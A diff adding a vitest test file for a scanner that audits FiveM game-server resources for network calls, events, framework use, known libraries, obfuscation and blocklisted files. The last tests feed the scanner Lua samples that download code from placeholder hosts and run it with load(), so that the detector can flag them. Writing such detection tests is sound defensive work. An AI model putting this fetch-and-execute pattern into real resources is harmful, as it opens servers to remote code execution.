@@ -1,0 +1,178 @@
+import { expect, test } from 'vitest'
+
+import { manifest, scanFiles as scan } from '#test-support/scan-files.ts'
+
+const page = `${manifest}ui_page 'ui/index.html'\nfile 'ui/app.js'`
+
+test('events of a page and its callbacks are none of the network, whatever registers them', () => {
+  const { capabilities, perResource } = scan({
+    'fxmanifest.lua': page,
+    'ui/app.js': [
+      "window.addEventListener('message', ({ data }) => show(data))",
+      "document.querySelector('#a').addEventListener('click', () => close())",
+      "on('keydown', close)",
+    ].join('\n'),
+    'client.lua': [
+      "RegisterNUICallback('close', function(_, cb) cb(1) end)",
+      "RegisterNuiCallback('open', function(_, cb) cb(1) end)",
+      "AddEventHandler('onResourceStop', function() end)",
+      "RegisterNetEvent('shop:open', function() end)",
+    ].join('\n'),
+    'server.lua': "lib.callback.register('shop:price', function() return 1 end)",
+  })
+
+  const events = capabilities.filter(({ kind }) => kind === 'events')
+  expect(events.map(({ side, values }) => [side, values])).toEqual([
+    ['client', ['shop:open']],
+    ['server', ['shop:price']],
+  ])
+  expect(perResource.get('')?.events.names.toSorted()).toEqual(['shop:open', 'shop:price'])
+})
+
+test.each([
+  ['fetch(`https://${GetParentResourceName()}/close`, { method: "POST" })', []],
+  [
+    "const name = window.GetParentResourceName ? window.GetParentResourceName() : 'nui-frame-app'\nfetch(`https://${name}/close`)",
+    [],
+  ],
+  ["$.post('https://shop/close', JSON.stringify({}))", []],
+  ["$.ajax({ url: 'http://shop/close', type: 'POST' })", []],
+  ["fetch('https://cfx-nui-inventory/images/bread.png')", []],
+  ["fetch('./locales/en.json')", []],
+  ["fetch('https://api.example.com/rates')", ['api.example.com']],
+  ['fetch(`https://api.example.com/${id}`)', ['api.example.com']],
+  ['fetch(settings.url)', ['URL computed']],
+  ['axios.interceptors.request.use((config) => config)', []],
+])('a page that runs %j calls out to %j', (code, hosts) => {
+  const { capabilities } = scan({ 'fxmanifest.lua': page, 'ui/app.js': code })
+
+  expect(capabilities.filter(({ kind }) => kind === 'calls-out').flatMap(({ values }) => values)).toEqual(
+    hosts,
+  )
+})
+
+test('a call of the server to a host without a domain is one to another host', () => {
+  const { capabilities } = scan({
+    'fxmanifest.lua': manifest,
+    'server.lua': "PerformHttpRequest('http://backend:3000/x', print)",
+  })
+
+  expect(capabilities).toMatchObject([{ kind: 'calls-out', values: ['backend'] }])
+})
+
+test.each([
+  [
+    'a check of its state',
+    {
+      'server.lua':
+        "if GetResourceState('es_extended') == 'started' then ESX = exports.es_extended:getSharedObject() end",
+    },
+    ['es_extended'],
+  ],
+  ['a bridge', { 'bridge/esx/server.lua': 'ESX = exports.es_extended:getSharedObject()' }, ['es_extended']],
+  [
+    'a file of the framework',
+    { 'server/esx.lua': 'ESX = exports.es_extended:getSharedObject()' },
+    ['es_extended'],
+  ],
+  [
+    'code that waits for it',
+    {
+      'server.lua':
+        "while GetResourceState('es_extended') ~= 'started' do Wait(0) end ESX = exports.es_extended:getSharedObject()",
+    },
+    [],
+  ],
+  [
+    'code that waits for it in another loop',
+    {
+      'server.lua':
+        "repeat Wait(0) until GetResourceState('es_extended') == 'started' ESX = exports.es_extended:getSharedObject()",
+    },
+    [],
+  ],
+  [
+    'a resource of a bridge',
+    { 'bridge/nd.lua': 'exports.ND_Core:getPlayer()', 'server.lua': 'exports.es_extended:getSharedObject()' },
+    ['ND_Core'],
+  ],
+  [
+    'a bridge and other code',
+    {
+      'bridge/esx.lua': 'ESX = exports.es_extended:getSharedObject()',
+      'server.lua': 'exports.es_extended:getSharedObject()',
+    },
+    [],
+  ],
+])('a framework that is used by %s is optional: %j %j', (_, files, optional) => {
+  const { perResource } = scan({ 'fxmanifest.lua': `${manifest}server_script '**/*.lua'`, ...files })
+
+  expect(perResource.get('')).toMatchObject({ frameworks: ['esx'], optional })
+})
+
+test('a framework that the code only mentions is not used', () => {
+  const { perResource } = scan({
+    'fxmanifest.lua': manifest,
+    'server.lua':
+      "local blocked = { ['qb-core'] = true }\nlocal name = GetInvokingResource() or 'es_extended'",
+  })
+
+  expect(perResource.get('')?.frameworks).toEqual([])
+})
+
+test('exports of the modules of a page are none of resources', () => {
+  const { capabilities } = scan({ 'fxmanifest.lua': page, 'ui/app.js': 'exports.escape(exports.tags())' })
+
+  expect(capabilities.map(({ kind }) => kind)).toEqual(['page'])
+})
+
+const jQuery = '78a85aca2f0b110c29e0d2b137e09f0a'
+
+test('an unchanged file of a known library is named and has no findings, a changed one is scanned', () => {
+  const files = { 'ui/jquery.js': 'eval(textOf(x))\nfetch(u)', 'fxmanifest.lua': manifest }
+  const known = scan(files, { hashes: { 'ui/jquery.js': jQuery } })
+  const changed = scan(files)
+
+  expect(known).toMatchObject({ findings: [], capabilities: [] })
+  expect(known.known).toEqual([{ path: 'ui/jquery.js', name: 'jQuery 3.7.1' }])
+  expect(changed.known).toEqual([])
+  expect(changed.findings).not.toEqual([])
+})
+
+test('a blocklisted file is found even where its library is known', () => {
+  const { findings } = scan(
+    { 'jquery.js': 'x' },
+    { hashes: { 'jquery.js': jQuery }, blocklist: { files: [jQuery] } },
+  )
+
+  expect(findings.map(({ rule }) => rule)).toEqual(['blocklisted-file'])
+})
+
+test('what is said of a whole file has no line', () => {
+  const { findings, capabilities } = scan(
+    { 'lib.dll': '', 'a.lua': `-- Luraph\nlocal a = 1` },
+    { types: { 'lib.dll': 'exe' } },
+  )
+
+  expect(findings.map(({ rule, line }) => `${rule} ${line}`).toSorted()).toEqual([
+    'binary null',
+    'obfuscated null',
+  ])
+  expect(capabilities.flatMap(({ places }) => places.map(({ line }) => line))).toEqual([null, null])
+})
+
+test.each([
+  [
+    "PerformHttpRequest('https://a.example/code', function(_, body) load(body)() end)",
+    'https://a.example/code, run by load',
+  ],
+  [
+    "PerformHttpRequest('https://a.example/1', print)\nPerformHttpRequest('https://b.example/2', function(_, body) load(body)() end)",
+    'https://a.example/1 or another URL, run by load',
+  ],
+  ['PerformHttpRequest(Config.Url, function(_, body) load(body)() end)', 'run by load'],
+])('a download that is run is found with its URL: %s', (code, detail) => {
+  const { findings } = scan({ 'fxmanifest.lua': manifest, 'server.lua': code })
+
+  expect(findings.find(({ rule }) => rule === 'runs-downloaded-code')?.detail).toBe(detail)
+})
